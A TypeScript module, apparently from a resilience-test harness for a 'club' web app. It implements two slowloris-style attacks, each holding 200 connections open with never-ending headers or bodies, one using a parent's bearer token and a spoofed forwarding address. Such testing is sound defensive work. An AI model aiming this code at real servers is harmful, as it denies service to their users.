/** Requests that never end: headers and bodies that trickle in. */
import { connect, type Socket } from 'node:net';
import { type Attack, attackAs } from './attack';
import type { Target } from './club-client';

const CONNECTIONS = 200;
/** Time that they stay open (ms). */
const LASTS = 5_000;
const TRICKLE_EVERY = 250;

/** Opens connections that send a beginning, then one byte at a time. */
async function trickle(target: Target, beginning: string): Promise<void> {
  const { hostname, port } = new URL(target.url);
  const sockets: Socket[] = Array.from({ length: CONNECTIONS }, () => {
    const socket = connect(Number(port), hostname);
    socket.on('error', () => undefined);
    socket.resume();
    socket.write(beginning);
    return socket;
  });
  const until = performance.now() + LASTS;
  while (!target.signal.aborted && performance.now() < until) {
    await new Promise((resolve) => setTimeout(resolve, TRICKLE_EVERY));
    for (const socket of sockets) if (socket.writable) socket.write('a');
  }
  const open = sockets.filter(({ destroyed, readableEnded }) => !destroyed && !readableEnded).length;
  target.tally['still open'] = (target.tally['still open'] ?? 0) + open;
  for (const socket of sockets) socket.destroy();
}

export const slowAttacks: readonly Attack[] = [
  {
    name: `headers that never end, ${CONNECTIONS} connections`,
    club: 'usual',
    run: (target) => trickle(target, 'GET /api/alive HTTP/1.1\r\nhost: club\r\nx-forwarded-for: 10.2.0.2\r\nx-slow: '),
  },
  {
    name: `bodies that never end, ${CONNECTIONS} of a parent`,
    club: 'usual',
    run: (target) =>
      attackAs('parent', target, () =>
        trickle(
          target,
          'POST /api/update_profile HTTP/1.1\r\nhost: club\r\nx-forwarded-for: 10.2.0.3\r\n' +
            `authorization: Bearer ${target.plan.tokens.parent}\r\ncontent-type: application/json\r\ncontent-length: 200000\r\n\r\n{"`,
        ),
      ),
  },
];
